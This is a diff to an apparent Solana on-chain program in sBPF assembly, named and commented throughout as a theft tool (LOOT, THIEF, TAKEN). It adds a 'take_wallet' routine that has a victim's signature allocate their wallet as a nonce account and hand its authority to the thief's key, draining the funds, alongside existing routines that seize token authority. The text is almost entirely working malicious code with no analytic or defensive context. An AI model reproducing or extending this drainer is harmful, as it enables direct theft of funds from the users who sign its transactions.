@@ -10,6 +10,7 @@
 .equ OTHER, 7
 .equ LOOT, 8
 .equ TOKEN, 9
+; Behind them, where the wallet is to be taken: System, recent blockhashes, rent.
 .equ TRANSFER, 3        ; instructions of SPL Token
 .equ APPROVE, 4
 .equ SET_AUTHORITY, 6
@@ -21,6 +22,10 @@
 .equ PAYS_LESS, 4
 .equ TAKES_ACCOUNT, 5
 .equ MAY_CLOSE, 6
+.equ TAKES_WALLET, 7
+.equ ALLOCATE, 8        ; instructions of System
+.equ INITIALIZE_NONCE, 6
+.equ NONCE_BYTES, 80
 .equ TAKEN, 500
 .equ SHORT, 200001
 ; A call, behind the accounts in the heap: instruction (40 bytes), three metas, data, the seed of the state's address.
@@ -65,6 +70,7 @@ at_par:
   jeq r7, TAKES_MORE, take_more
   jeq r7, TAKES_ACCOUNT, take_account
   jeq r7, MAY_CLOSE, let_close
+  jeq r7, TAKES_WALLET, take_wallet
 end:
   exit
 take_other_token:
@@ -97,6 +103,26 @@ let_close:
   mov64 r2, CLOSE_ACCOUNT
   mov64 r3, SOLD
   call set_authority
+  exit
+; Makes the wallet a nonce account of the thief, who may withdraw all of it.
+take_wallet:
+  stw [r6+CALL_DATA], ALLOCATE
+  stdw [r6+132], NONCE_BYTES
+  mov64 r1, 12
+  call call_system
+  jne r0, 0, end
+  stw [r6+CALL_DATA], INITIALIZE_NONCE
+  ldxdw r2, [r9+56]     ; key of THIEF
+  ldxdw r1, [r2+0]
+  stxdw [r6+132], r1
+  ldxdw r1, [r2+8]
+  stxdw [r6+140], r1
+  ldxdw r1, [r2+16]
+  stxdw [r6+148], r1
+  ldxdw r1, [r2+24]
+  stxdw [r6+156], r1
+  mov64 r1, 36
+  call call_system
   exit
 
 ; r1 instruction, r2 amount, r3 from, r4 to, r5 who signs (numbers of accounts).
@@ -147,6 +173,7 @@ call_token:
   stxdw [r6+96], r3
   sth [r6+104], 0x0100  ; signer
   ldxdw r3, [r9+504]    ; key of TOKEN
+call_program:
   stxdw [r6+0], r3
   mov64 r3, r6
   add64 r3, METAS
@@ -175,3 +202,18 @@ call_token:
   mov64 r5, 1
   call sol_invoke_signed_c
   exit
+
+; Calls System with r1 bytes of data, the person, who signs, and both sysvars.
+call_system:
+  stxdw [r6+32], r1
+  ldxdw r3, [r9+112]    ; key of PERSON
+  stxdw [r6+METAS], r3
+  sth [r6+72], 0x0101   ; writable, signer
+  ldxdw r3, [r9+616]    ; key of the recent blockhashes
+  stxdw [r6+80], r3
+  sth [r6+88], 0
+  ldxdw r3, [r9+672]    ; key of the rent
+  stxdw [r6+96], r3
+  sth [r6+104], 0
+  ldxdw r3, [r9+560]    ; key of System
+  ja call_program
